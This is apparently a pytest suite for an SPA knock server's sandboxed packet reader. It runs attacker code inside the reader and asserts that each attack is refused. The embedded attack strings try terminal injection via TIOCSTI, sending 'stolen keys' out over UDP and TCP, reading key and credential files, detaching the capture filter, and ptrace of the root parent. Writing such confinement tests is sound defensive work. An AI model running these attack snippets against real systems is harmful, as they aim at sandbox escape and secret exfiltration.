"""The packet reader's confinement, tested as an attacker who runs code inside it.

Each test starts a real spa.py server in network namespaces (real capture, real nftables)
whose packet reader runs attacker code after its privilege drop and sandbox
(compromised_reader.py), and checks that every OS-level attack fails, that the root
parent stays up and that a good knock still opens.  The pipe-protocol attacks
(malformed requests to the parent) build on the same harness.  Below them, unit tests of
the pieces: the seccomp program (run by an interpreter, for each architecture, against the
kernel's system call numbers) and the parent's relay of the reader's log.
"""

import os
import re
import signal
import stat
import struct
import time

import pytest

import netns_lab
import spa
from compromised_reader import CompromisedServer, run_in_reader
from netns_lab import Lab, wait_for_line
from test_spa import SERVICE_PORT, need_nft, proc_status, timed_knock

# Attacks both lists below make.
COMMON = r'''
def udp_out():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return s.sendto(b"stolen keys", (client, 9999))
def close_then_socket():            # a descriptor freed: still none may be made (limit 0)
    os.close(0)
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def fork():
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    return pid
'''

# Every OS-level attack of issue 12, as code run inside the reader.  Each `attempt` must
# end "refused ERRNO"; "DONE ..." is an attack that got through.
ATTACKS = COMMON + r'''
SOL_SOCKET, SO_ATTACH_FILTER, SO_DETACH_FILTER, SO_LOCK_FILTER = 1, 26, 27, 44
SOL_PACKET, PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC = 263, 1, 1
libc = ctypes.CDLL(None, use_errno=True)
capture = sockets[0]
# An IPv4/UDP frame from this host to the client, as the cooked capture socket would send it.
frame = bytes.fromhex("450000210000400040110000c6120101") + socket.inet_aton(client) + \
    bytes.fromhex("0035270f000d0000") + b"spoof"
to_client = (interface, 0x0800, 0, 0, b"\xff" * 6)


def libc_call(name, *args):
    if getattr(libc, name)(*args) == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))


# 1. The terminal: push a command into it (TIOCSTI), through any descriptor or /dev/tty.
seen = set()
worked = []
for fd in range(64):
    try:
        for ch in b"echo PWNED-BY-READER\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
        worked.append(fd)
    except OSError as e:
        seen.add(errno.errorcode.get(e.errno, str(e.errno)))
report("tiocsti", "DONE on fds %s" % worked if worked else "refused " + ",".join(sorted(seen)))
attempt("open_dev_tty", os.open, "/dev/tty", os.O_RDWR)

# 2. The capture socket: take the filter off and sniff, put a wide one on, unlock it,
# listen promiscuously, move it, send or write frames through it.
attempt("detach_filter", capture.setsockopt, SOL_SOCKET, SO_DETACH_FILTER, 0)
accept_all = struct.pack("HBBI", 0x06, 0, 0, 0xFFFF)
program = ctypes.create_string_buffer(accept_all)
attempt("attach_wide_filter", capture.setsockopt, SOL_SOCKET, SO_ATTACH_FILTER,
        struct.pack("HL", 1, ctypes.addressof(program)))
attempt("unlock_filter", capture.setsockopt, SOL_SOCKET, SO_LOCK_FILTER, 0)
attempt("promiscuous", capture.setsockopt, SOL_PACKET, PACKET_ADD_MEMBERSHIP,
        struct.pack("iHH8s", ifindex, PACKET_MR_PROMISC, 0, b""))
attempt("receive_buffer", capture.setsockopt, SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
attempt("bind_capture", capture.bind, (interface, 0x0003))
attempt("sendto_capture", capture.sendto, frame, to_client)
attempt("sendmsg_capture", capture.sendmsg, [frame], [], 0, to_client)
attempt("write_capture", os.write, capture.fileno(), frame)
report("sniff_ready", "yes")
frames = wait_go(5)            # the test sends other traffic, then the marker
others = [f for f in frames or () if f[0] >> 4 != 4 or f[9] != 17
          or struct.unpack("!H", f[(f[0] & 15) * 4 + 2:(f[0] & 15) * 4 + 4])[0] != 62201]
report("sniff", "error: no marker" if frames is None else "DONE saw %d frames the filter "
       "should drop" % len(others) if others else "refused: only what the filter passes")

# 3. New sockets of every kind, connecting out: the keys never leave this way.
def tcp_out():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    return s.connect((client, 9999))            # the test listens there
attempt("udp_socket", udp_out)
attempt("tcp_connect", tcp_out)
attempt("udp6_socket", socket.socket, socket.AF_INET6, socket.SOCK_DGRAM)
attempt("raw_socket", socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
attempt("packet_socket", socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 0x0300)
attempt("netlink_socket", socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 12)
attempt("unix_socket", socket.socket, socket.AF_UNIX, socket.SOCK_DGRAM)
attempt("socketpair", socket.socketpair)

# 4. Files: the config (keys), the replay cache, anything at all; new descriptors.
attempt("read_config", lambda: open(config).read())
attempt("read_replay_cache", lambda: open(replay, "rb").read())
attempt("read_passwd", lambda: open("/etc/passwd").read())
attempt("create_file", lambda: open("/tmp/spa-reader-attack-%d" % os.getpid(), "w"))
attempt("pipe", os.pipe)
attempt("dup", os.dup, pipe)
attempt("close_then_socket", close_then_socket)
attempt("write_stdout", os.write, 1, b"forged log line\n")
attempt("write_stderr", os.write, 2, b"forged log line\n")

# 5. Processes: fork, signal or trace the root parent, become root, leave the sandbox.
attempt("fork", fork)
attempt("kill_parent", os.kill, os.getppid(), signal.SIGKILL)
attempt("setuid_root", os.setuid, 0)
attempt("user_namespace", libc_call, "unshare", 0x10000000)
attempt("dumpable", libc_call, "prctl", 4, 1, 0, 0, 0)
attempt("raise_file_limit", libc_call, "setrlimit", resource.RLIMIT_NOFILE,
        ctypes.byref((ctypes.c_ulong * 2)(1024, 1024)))
attempt("ioctl", fcntl.ioctl, capture.fileno(), 0x8913, struct.pack("16sH22s", interface.encode(), 0, b""))
attempt("executable_memory", mmap.mmap, -1, 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC)
# The capture socket's receive ring (mapped before the sandbox): no new size or version,
# no executable mapping of it.
attempt("ring_resize", capture.setsockopt, SOL_PACKET, 5, struct.pack("IIII", 4096, 4, 2048, 8))
attempt("ring_version", capture.setsockopt, SOL_PACKET, 10, 0)
attempt("ring_executable", libc_call, "mmap", None, ctypes.c_size_t(2 << 20), 5, 1,
        capture.fileno(), ctypes.c_long(0))
'''

EXEC = r'''
report("exec", "trying")
os.execv("/bin/sh", ["sh", "-c", "exit 0"])
'''

PTRACE = r'''
report("ptrace", "trying")
ctypes.CDLL(None, use_errno=True).ptrace(16, os.getppid(), 0, 0)     # PTRACE_ATTACH
report("ptrace", "DONE: still alive after ptrace")
'''


def send_other_traffic(lab):
    """What the capture filter must keep from the reader: UDP to another port, TCP, and
    datagrams to the knock port too long to be a knock."""
    from netns_lab import tcp_connect_ok, udp_send
    for _ in range(5):
        udp_send(lab.name("cli1"), Lab.srv4(1), 9, b"x" * 200)
        udp_send(lab.name("cli1"), Lab.srv4(1), spa.DEFAULT_PORT, b"y" * 600)
        tcp_connect_ok(lab.name("cli1"), Lab.srv4(1), SERVICE_PORT, timeout=0.05)


def refused(outcomes):
    """The attacks that got through (or broke): {} when every one was refused."""
    return {name: text for name, text in outcomes.items()
            if name != "sniff_ready" and not text.startswith("refused")}


@pytest.fixture
def legacy_tiocsti():
    """TIOCSTI as on kernels before 6.2, where it types into any terminal one shares:
    dev.tty.legacy_tiocsti = 1 for the test where the sysctl exists (restored after)."""
    path = "/proc/sys/dev/tty/legacy_tiocsti"
    if not os.path.exists(path):
        yield                          # an older kernel: TIOCSTI always works like that
        return
    with open(path) as f:
        before = f.read().strip()
    if before != "1":
        with open(path, "w") as f:
            f.write("1")
    try:
        yield
    finally:
        if before != "1":
            with open(path, "w") as f:
                f.write(before)


def test_a_compromised_reader_can_do_nothing_but_read_packets(tmp_path, legacy_tiocsti):
    """Issue 12: attacker code in the reader (after its privilege drop and sandbox), with the
    server in a terminal, tries every OS-level attack; each fails, the parent stays up,
    knocks still open, and readers that the kernel kills are replaced."""
    need_nft()
    with Lab(clients=1, prefix="sbx") as lab:
        lab.tcp_service("srv", Lab.srv4(1), SERVICE_PORT)
        lab.tcp_service("cli1", Lab.cli4(1), 9999)        # where stolen keys would go
        server = CompromisedServer(lab, tmp_path, [ATTACKS, EXEC, PTRACE], tty=True).start()
        server.wait_report(0, "sniff_ready")
        send_other_traffic(lab)
        server.go()
        outcomes = server.outcomes(0)
        assert len(outcomes) >= 30 and refused(outcomes) == {}, refused(outcomes)
        assert server.tty_input() == b""                  # nothing was typed into the terminal
        assert "PWNED" not in server.log.text()           # nor echoed by it
        status = proc_status(server.reader_pid())          # the attacks ran under the filter
        assert status["Seccomp"].strip() == "2" and status["NoNewPrivs"].strip() == "1"
        assert timed_knock(lab, "cli1", Lab.srv4(1)) is not None     # reader 0 still works
        # Reader 1 tries exec, reader 2 ptrace: the kernel kills each; the parent goes on.
        mark = server.log.mark()
        os.kill(server.reader_pid(), signal.SIGKILL)
        for index in (1, 2):
            server.wait_report(index, "exec" if index == 1 else "ptrace")
            wait_for_line(server, r"packet reader stopped \(killed by signal 31", 5, since=mark)
            mark = server.log.mark()
        assert "DONE" not in server.log.text()
        time.sleep(0.5)                       # reader 3 (the plain one) takes over
        assert server.proc.poll() is None and server.reader_pid() is not None
        lab.run("srv", ["nft", "flush", "set", "inet", "spa", "allow4"])
        assert timed_knock(lab, "cli1", Lab.srv4(1)) is not None


def reader_stat(pid):
    """(session id, controlling terminal) of a process, from /proc/PID/stat."""
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return int(fields[3]), int(fields[4])


def test_the_reader_leaves_the_terminal(tmp_path):
    """Started from a terminal, the server keeps it (its log goes there); the reader is in a
    session of its own, without a controlling terminal and without a descriptor on it."""
    need_nft()
    with Lab(clients=1, prefix="sbx") as lab:
        server, _ = run_in_reader(lab, tmp_path, "", tty=True)   # the reader is ready
        assert reader_stat(server.proc.pid)[1] != 0            # the parent has the terminal
        reader = server.reader_pid()
        assert reader_stat(reader) == (reader, 0)
        for fd in os.listdir("/proc/%d/fd" % reader):      # no terminal (major 4, 5, 136-143)
            st = os.stat("/proc/%d/fd/%s" % (reader, fd))
            assert not (stat.S_ISCHR(st.st_mode) and (os.major(st.st_rdev) in (4, 5) or
                                                      136 <= os.major(st.st_rdev) <= 143)), fd
        mark = server.log.mark()
        os.kill(server.proc.pid, signal.SIGUSR1)           # the reader's log reaches the terminal
        wait_for_line(server, r"stats: received \d+", 2, since=mark)


# Without seccomp (an architecture spa.py has no table for), what still holds: the user,
# the rlimits (no new descriptor: EMFILE; no process: EAGAIN), the locked filter, no terminal.
LAYERS = COMMON + r'''
SOL_SOCKET, SO_ATTACH_FILTER, SO_DETACH_FILTER = 1, 26, 27
seen = set()
for fd in range(64):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"#")
        seen.add("DONE on fd %d" % fd)
    except OSError as e:
        seen.add(errno.errorcode.get(e.errno, str(e.errno)))
report("tiocsti", ",".join(sorted(seen)) if any("DONE" in x for x in seen) else "refused")
attempt("open_dev_tty", os.open, "/dev/tty", os.O_RDWR)
attempt("detach_filter", sockets[0].setsockopt, SOL_SOCKET, SO_DETACH_FILTER, 0)
attempt("udp_socket", udp_out)
attempt("unix_socket", socket.socket, socket.AF_UNIX, socket.SOCK_DGRAM)
attempt("read_passwd", lambda: open("/etc/passwd").read())
attempt("read_config", lambda: open(config).read())
attempt("pipe", os.pipe)
attempt("dup", os.dup, pipe)
attempt("close_then_socket", close_then_socket)
attempt("fork", fork)
attempt("kill_parent", os.kill, os.getppid(), signal.SIGKILL)
attempt("setuid_root", os.setuid, 0)
'''


def test_without_seccomp_the_other_layers_still_hold(tmp_path):
    need_nft()
    with Lab(clients=1, prefix="sbx") as lab:
        lab.tcp_service("srv", Lab.srv4(1), SERVICE_PORT)
        server, outcomes = run_in_reader(lab, tmp_path, LAYERS, tty=True,
                                         patch={"seccomp_arch": "lambda: None"})
        wait_for_line(server, r"packet reader: no seccomp filter \(spa\.py has no system call "
                      r"table for \S+ with a \d+-bit Python\): it runs confined by its user, "
                      r"rlimits and closed files only", 1)
        assert len(outcomes) == 13 and refused(outcomes) == {}, refused(outcomes)
        assert outcomes["udp_socket"] == outcomes["read_passwd"] == "refused EMFILE"
        assert outcomes["close_then_socket"] == "refused EMFILE"
        assert outcomes["fork"] == "refused EAGAIN"
        assert server.tty_input() == b""
        assert timed_knock(lab, "cli1", Lab.srv4(1)) is not None


def test_a_reader_that_keeps_dying_is_restarted_for_ever(tmp_path):
    """Issue 12 item 11: any process of the reader's user could kill it again and again; the
    parent never gives up: it waits longer each time (doubling, up to RESTART_DELAY's cap;
    shortened here), logs why each reader died, and the next good reader opens knocks."""
    need_nft()
    crash = "raise ValueError('reader %d crashed on purpose' % index)"
    with Lab(clients=1, prefix="sbx") as lab:
        lab.tcp_service("srv", Lab.srv4(1), SERVICE_PORT)
        server = CompromisedServer(lab, tmp_path, [crash] * 8,
                                   patch={"ReaderProcess.RESTART_DELAY": "(0.02, 0.16)"}).start()
        wait_for_line(server, r"ValueError: reader 7 crashed on purpose", 10)
        time.sleep(0.5)
        waits = re.findall(r"packet reader stopped \(exit status 1\): starting a new one in "
                           r"([\d.]+) s", server.log.text())
        assert waits == ["0.02", "0.04", "0.08", "0.16", "0.16", "0.16", "0.16", "0.16"]
        assert server.proc.poll() is None
        assert timed_knock(lab, "cli1", Lab.srv4(1)) is not None



# --- the seccomp program, run by an interpreter, for every architecture it knows ----------

def seccomp_verdict(program, arch, nr, *args):
    """What the kernel would do with the call `nr(*args)` made under `program` (classic BPF
    over struct seccomp_data: nr, arch, instruction pointer, six 64-bit arguments)."""
    data = struct.pack("<iIQ6Q", nr, arch, 0, *(list(args) + [0] * (6 - len(args))))
    a = pc = 0
    while True:
        code, jt, jf, k = program[pc]
        pc += 1
        if code == 0x20:                                   # ld [k]
            a = struct.unpack_from("<I", data, k)[0]
        elif code == 0x06:                                 # ret k
            return k
        else:
            cond = {0x15: a == k, 0x25: a > k, 0x35: a >= k, 0x45: bool(a & k)}[code]
            pc += jt if cond else jf


def kernel_syscall_numbers(arch):
    """{name: number} from the kernel's headers (linux-libc-dev), or None without them."""
    path = {"x86_64": "/usr/include/x86_64-linux-gnu/asm/unistd_64.h"}.get(
        arch, "/usr/include/asm-generic/unistd.h")
    if not os.path.exists(path):
        return None
    with open(path) as f:
        text = f.read()
    found = {name: int(nr) for name, nr in re.findall(r"#define __NR_(\w+)\s+(\d+)", text)}
    for name, alias in re.findall(r"#define __NR3264_(\w+)\s+(\d+)", text):
        found[name] = int(alias)
    return found


# Calls the reader must never make, by number: x86_64's, then the generic table's.
DENIED = {"socket": (41, 198), "connect": (42, 203), "sendto": (44, 206), "sendmsg": (46, 211),
          "sendmmsg": (307, 269), "bind": (49, 200), "setsockopt": (54, 208), "ioctl": (16, 29),
          "clone": (56, 220), "clone3": (435, 435), "fork": (57, None), "kill": (62, 129),
          "tgkill": (234, 131), "dup": (32, 23), "dup3": (292, 24), "pipe2": (293, 59),
          "unshare": (272, 97), "prctl": (157, 167), "prlimit64": (302, 261), "setuid": (105, 146),
          "read": (0, 63), "select": (23, None), "poll": (7, None), "ppoll": (271, 73),
          "epoll_create1": (291, 20), "mount": (165, 40), "chroot": (161, 51)}
EPERM, EACCES = spa.SECCOMP_ERRNO | 1, spa.SECCOMP_ERRNO | 13


@pytest.mark.parametrize("arch", sorted(spa.SYSCALLS))
def test_seccomp_program(arch):
    numbers = spa.SYSCALLS[arch]
    headers = kernel_syscall_numbers(arch)
    netns_lab.need(headers is not None, "the kernel headers are missing (apt install linux-libc-dev)")
    assert {name: headers.get(name) for name in numbers} == numbers
    for name, pair in DENIED.items():
        assert pair[arch != "x86_64"] == headers.get(name), name
    audit = spa.AUDIT_ARCHES[arch]
    prog = spa.seccomp_program(arch, writable=(9, 11), readable=(3,))
    run = lambda name, *args: seccomp_verdict(prog, audit, numbers[name], *args)  # noqa: E731
    for name in spa.SECCOMP_ALLOWED:
        if name in numbers:
            assert run(name) == spa.SECCOMP_ALLOW, name
    assert run("write", 9) == run("write", 11) == spa.SECCOMP_ALLOW
    assert run("write", 1) == run("write", 2) == run("write", 4) == EPERM   # a capture socket
    assert run("pread64", 3) == spa.SECCOMP_ALLOW and run("pread64", 4) == EPERM
    assert run("getsockopt", 4, spa.SOL_PACKET, spa.PACKET_STATISTICS) == spa.SECCOMP_ALLOW
    assert run("getsockopt", 4, 1, 26) == run("getsockopt", 4, spa.SOL_PACKET, 5) == EPERM
    for name in ("mmap", "mprotect"):
        assert run(name, 0, 4096, 3) == spa.SECCOMP_ALLOW                 # read, write
        assert run(name, 0, 4096, 5) == run(name, 0, 4096, 4) == EPERM    # and execute
    for name in ("open", "openat", "openat2"):
        if name in numbers:
            assert run(name) == EACCES
    for name in spa.SECCOMP_KILLED:
        assert run(name) == spa.SECCOMP_KILL
    for name, pair in DENIED.items():
        if pair[arch != "x86_64"] is not None:
            assert seccomp_verdict(prog, audit, pair[arch != "x86_64"], 4, 1, 26) == EPERM, name
    # Calls through another table: the 32-bit x86 one kills, x32 numbers fail.
    assert seccomp_verdict(prog, 0x40000003, numbers["write"], 9) == spa.SECCOMP_KILL
    other = spa.AUDIT_ARCHES["aarch64" if arch == "x86_64" else "x86_64"]
    assert seccomp_verdict(prog, other, numbers["write"], 9) == spa.SECCOMP_KILL
    if arch == "x86_64":
        assert seccomp_verdict(prog, audit, 0x40000000 | numbers["write"], 9) == EPERM


def test_seccomp_arch_knows_only_its_tables(monkeypatch):
    assert spa.seccomp_arch() == {"x86_64": "x86_64", "aarch64": "aarch64"}.get(os.uname().machine)
    fake = lambda machine: type("U", (), {"machine": machine})()       # noqa: E731
    for machine, expected in (("arm64", "aarch64"), ("riscv64", "riscv64"), ("armv7l", None),
                              ("mips", None), ("i686", None)):
        monkeypatch.setattr(os, "uname", lambda: fake(machine))
        assert spa.seccomp_arch() == expected
    monkeypatch.setattr(struct, "calcsize", lambda fmt: 4)     # a 32-bit Python on x86_64
    monkeypatch.setattr(os, "uname", lambda: fake("x86_64"))
    assert spa.seccomp_arch() is None


# --- the reader's log, as the parent writes it out ----------------------------------------

def relay_of(chunks, capsys):
    """Feed `chunks` (bytes written by a reader; a number: seconds to wait) through a
    ReaderProcess's log relay, then end the pipe; returns what the parent logged."""
    sup = spa.ReaderProcess(None, spa.Log())
    r, w = os.pipe()
    sup.log_fd = r
    os.set_blocking(r, False)
    capsys.readouterr()
    for chunk in chunks:
        if isinstance(chunk, float):
            time.sleep(chunk)
            continue
        os.write(w, chunk)
        sup.relay()
    os.close(w)
    while sup.log_fd is not None and sup.relay():
        pass
    return [line.split(" spa: ", 1)[1] for line in capsys.readouterr().err.splitlines()]


def test_the_parent_logs_the_reader_s_lines_as_untrusted_text(capsys):
    cap = spa.ReaderProcess.MAX_LINE
    out = relay_of([b"info rejected packet from 198.18.0.2: bad\n",
                    b"error packet reader crashed:\nTraceback\n",
                    b"info forged\rline \x1b[2J\xc2\x9b31m and \xe9t\xc3\xa9\n",
                    b"no level at all\n\n", b"info partial ", b"then its end\n",
                    b"warning " + b"x" * 9000 + b"\n", b"info " + b"y" * 5000, b"z\n",
                    b"info cut at the end"], capsys)
    assert out == ["rejected packet from 198.18.0.2: bad", "packet reader crashed:", "Traceback",
                   "forged\\x0dline \\x1b[2J\\x9b31m and \ufffdt\u00e9", "no level at all",
                   "partial then its end", "x" * (cap - 8), "y" * (cap - 5), "z", "cut at the end"]


def test_a_reader_flooding_its_log_is_cut_short(capsys):
    out = relay_of([b"info line %d\n" % i for i in range(300)] + [0.15, b"info later\n"], capsys)
    assert out == ["line %d" % i for i in range(100)] + [
        "200 lines of the packet reader were not logged (rate limit)", "later"]


# --- the reader's own user -------------------------------------------------------------

def pwd_without(monkeypatch, *missing):
    import pwd
    real = pwd.getpwnam

    def getpwnam(name):
        if name in missing:
            raise KeyError(name)
        return real(name)
    monkeypatch.setattr(pwd, "getpwnam", getpwnam)


def test_the_reader_runs_as_spa_else_nobody_with_a_warning(tmp_path, monkeypatch, capsys):
    from test_spa import server_config
    netns_lab.need(_user("spa") is not None, "no user spa: sh setup.sh creates it")
    assert (server_config(tmp_path).user, server_config(tmp_path).user_note) == ("spa", None)
    assert server_config(tmp_path, user="nobody").user == "nobody"
    with pytest.raises(spa.SpaError, match=r"user = root: the packet reader must not run as root"):
        server_config(tmp_path, user="root")
    pwd_without(monkeypatch, "spa")
    config = server_config(tmp_path)
    assert config.user == "nobody"
    assert config.user_note == ("no user spa: the packet reader runs as nobody, which other "
                                "daemons share; create it: useradd --system --no-create-home "
                                "--home-dir /nonexistent --shell /usr/sbin/nologin spa")
    with pytest.raises(spa.SpaError, match=r"user = spa: no such user"):
        server_config(tmp_path, user="spa")
    config = server_config(tmp_path)
    args = spa.build_parser(["check-config"]).parse_args(["check-config", "-c", config.path])
    spa.check_config_main(args)
    assert "  note  no user spa: the packet reader runs as nobody" in capsys.readouterr().out


def _user(name):
    import pwd
    try:
        return pwd.getpwnam(name)
    except KeyError:
        return None


def test_setup_made_the_user_spa():
    """setup.sh (and `spa.py install`) make `spa` a system user without a home or a shell."""
    user = _user("spa")
    netns_lab.need(user is not None, "no user spa: sh setup.sh creates it")
    assert 0 < user.pw_uid < 1000 and user.pw_shell.endswith("nologin")
    assert not os.path.exists(user.pw_dir)


def test_install_creates_the_user_where_it_is_missing(monkeypatch):
    ran = []
    monkeypatch.setattr(spa, "run_command", lambda argv, stdin=None: ran.append(argv) or "")
    monkeypatch.setattr(spa, "find_tool", lambda name: "/usr/sbin/" + name)
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    pwd_without(monkeypatch)
    if _user("spa") is not None:
        assert spa.create_reader_user() == "the packet reader runs as the user spa" and not ran
    pwd_without(monkeypatch, "spa")
    assert spa.create_reader_user() == "created the system user spa, which the packet reader runs as"
    assert ran == [["/usr/sbin/useradd", "--system", "--no-create-home", "--home-dir",
                    "/nonexistent", "--shell", "/usr/sbin/nologin", "spa"]]
    monkeypatch.setattr(spa, "run_command", lambda argv, stdin=None: (_ for _ in ()).throw(
        spa.SpaError("useradd failed: cannot lock /etc/passwd")))
    assert spa.create_reader_user() == ("note: could not create the system user spa: useradd "
                                        "failed: cannot lock /etc/passwd (the packet reader runs "
                                        "as nobody until it exists)")
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    assert spa.create_reader_user().startswith("note: no user spa: as root, run useradd --system")
